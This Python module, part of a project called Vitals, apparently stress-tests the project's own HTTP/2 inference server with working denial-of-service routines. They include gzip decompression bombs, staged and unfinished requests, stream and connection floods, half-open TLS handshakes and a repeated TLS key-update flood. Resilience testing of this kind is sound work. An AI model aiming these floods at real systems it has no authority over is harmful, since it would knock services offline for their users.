# Part of Vitals. Copyright (c) 2026 the Vitals authors.
# SPDX-License-Identifier: Apache-2.0
"""More attacks: each byte of these is meant to cost the server much, or each connection to take what others need. See
`attacker.py` for the command line."""

import ctypes
import gzip
import socket
import struct
import sys

import attacker
import attacks
import hello
import http2
import shapes
from attacker import CHECK, INFER, WATCH, call, drain

# Two bytes that stand for a field which no request has.
UNKNOWN = b"\xd2\x7d\0"


def repeat_call(attack, make, first=1):
    """Calls on one connection after the other, `make(stream)` being one."""
    while attack.goes_on():
        with attack.peer() as peer:
            for stream in attack.numbers(first, 2):
                peer.send(make(stream))
                drain(peer)


def unknown_fields(attack):
    """Requests of 60 kB of unknown fields."""
    body = UNKNOWN * 20_000
    repeat_call(attack, lambda stream: shapes.request(CHECK, body, stream=stream))


def unknown_fields_for_inference(attack):
    body = UNKNOWN * 20_000
    repeat_call(attack, lambda stream: shapes.request(INFER, body, stream=stream))


def unknown_fields_in_gzip(attack):
    """2 kB that unfold to 650,000 unknown fields."""
    packed = gzip.compress(UNKNOWN * 650_000, 9, mtime=0)
    repeat_call(attack, lambda stream: shapes.request(CHECK, packed, True, stream))


def unknown_fields_in_gzip_for_inference(attack):
    packed = gzip.compress(UNKNOWN * 650_000, 9, mtime=0)
    repeat_call(attack, lambda stream: shapes.request(INFER, packed, True, stream))


def known_fields(attack):
    """Requests of as many texts as fit, of a field that is a list."""
    packed = gzip.compress(b"\x32\0" * 1_000_000, 9, mtime=0)
    repeat_call(attack, lambda stream: shapes.request(INFER, packed, True, stream))


def staged(attack, data):
    """Many calls that all want one byte, which then comes for all of them."""
    while attack.goes_on():
        with attack.peer() as peer:
            for start in range(1, 1 << 20, 120):
                if not attack.goes_on():
                    break
                parts = [shapes.without_last_byte(data, stream) for stream in range(start, start + 120, 2)]
                for most, _ in parts:
                    peer.send(most)
                    drain(peer)
                peer.send(b"".join(last for _, last in parts))
                drain(peer)


def staged_fields(attack):
    staged(attack, shapes.request(INFER, UNKNOWN * 300))


def staged_gzip(attack):
    staged(attack, shapes.request(INFER, gzip.compress(UNKNOWN * 650_000, 9, mtime=0), True))


def bodies(attack, name, size=60_000):
    body = dict(shapes.gzip_bodies(size))[name]
    repeat_call(attack, lambda stream: shapes.request(INFER, body, True, stream))


def gzip_of_empty_blocks(attack):
    bodies(attack, "empty stored blocks")


def gzip_of_empty_tables(attack):
    """Blocks that have tables, which are built, and nothing in them."""
    bodies(attack, "empty blocks with full tables")


def gzip_of_tiny_members(attack):
    bodies(attack, "members of one byte")


def pipelining(attack):
    """Requests of HTTP/1.1 without end."""
    attack.repeat(b"GET / HTTP/1.1\r\nHost:\r\n\r\n" * 100, opened=False)


def calls_flood(attack, path, message=b""):
    repeat_call(attack, lambda number: b"".join(call(stream, path, message) for stream in range(
        20 * number + 1, 20 * number + 41, 2)))


def metrics_flood(attack):
    calls_flood(attack, shapes.SKILL + "GetMetrics")


def list_flood(attack):
    calls_flood(attack, shapes.HEALTH + "List")


def inference_flood(attack):
    """As many as may be open, on each connection."""
    prompt = shapes.length_delimited(1, b"word " * 10)
    attack.hold(11, lambda peer: peer.send(attacker.opening() + b"".join(
        call(stream, INFER, prompt) for stream in range(1, 200, 2))))


def unfinished_requests(attack):
    """Requests of 2 MiB that lack a little: 28 of them, since each may be held in full, and in two halves while it grows."""
    head = http2.frame(http2.HEADERS, http2.END_HEADERS, 1, attacker.call_headers(INFER))

    def begin(peer):
        peer.send(attacker.opening() + head + http2.frame(http2.DATA, 0, 1, struct.pack(">BI", 0, 2 << 20)))
        for _ in range(130):
            peer.send(http2.frame(http2.DATA, 0, 1, bytes(16_000)))
            drain(peer)

    attack.hold(28, begin)


def many_watches(attack):
    """Two hundred connections with a hundred Watches each."""
    watches = b"".join(call(stream, WATCH) for stream in range(1, 200, 2))
    attack.hold(200, lambda peer: peer.send(attacker.opening() + watches))


def watching_clients(attack):
    """Ten thousand connections with one Watch each: none of them is idle."""
    attacker.allow_descriptors()
    attack.hold(10_000, lambda peer: peer.send(attacker.opening() + call(1, WATCH)))


def half_handshakes(attack):
    """TLS clients that say hello and nothing more, as many as may; only for a port with TLS."""
    attacker.allow_descriptors()
    attack.tls = None
    attack.hold(3000, lambda peer: peer.send(hello.client_hello([hello.X25519])))


class KeyUpdater:
    """A TLS client that can change its keys, which Python's cannot: OpenSSL by hand."""

    def __init__(self):
        self.ssl = ctypes.CDLL("libssl.so.3")
        for name in ("SSL_CTX_new", "SSL_new", "TLS_client_method"):
            getattr(self.ssl, name).restype = ctypes.c_void_p
        self.ssl.SSL_CTX_new.argtypes = self.ssl.SSL_new.argtypes = [ctypes.c_void_p]
        self.context = self.ssl.SSL_CTX_new(self.ssl.TLS_client_method())
        self.ssl.SSL_CTX_set_alpn_protos(ctypes.c_void_p(self.context), b"\x02h2", 3)

    def flood(self, peer, attack):
        """Shakes hands, and changes the keys again and again; EOFError when the server has had enough."""
        session = ctypes.c_void_p(self.ssl.SSL_new(self.context))
        try:
            self.ssl.SSL_set_fd(session, peer.socket.fileno())
            peer.socket.setblocking(True)
            peer.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 5, 0))
            if self.ssl.SSL_connect(session) != 1:
                raise EOFError
            first = attacker.opening()
            self.ssl.SSL_write(session, first, len(first))
            while attack.goes_on():
                if self.ssl.SSL_key_update(session, 0) != 1 or self.ssl.SSL_do_handshake(session) != 1:
                    raise EOFError
                peer.pace(27)
        finally:
            self.ssl.SSL_free(session)


def key_updates(attack):
    """New keys for TLS again and again; only for a port with TLS."""
    updater = KeyUpdater()
    while attack.goes_on():
        with attack.raw_peer() as peer:
            updater.flood(peer, attack)


ALL = [
    *(unknown_fields, unknown_fields_for_inference, unknown_fields_in_gzip, unknown_fields_in_gzip_for_inference),
    *(known_fields, staged_fields, staged_gzip, gzip_of_empty_blocks, gzip_of_empty_tables, gzip_of_tiny_members),
    *(pipelining, metrics_flood, list_flood, inference_flood, unfinished_requests, many_watches, watching_clients),
]
OF_TLS = [half_handshakes, key_updates]
# These make many connections themselves.
MANY_CLIENTS = {"inference_flood", "unfinished_requests", "many_watches", "watching_clients", "half_handshakes"}
MANY_CLIENTS |= attacks.MANY_CLIENTS


if __name__ == "__main__":
    attacker.main(globals(), *sys.argv[1:])
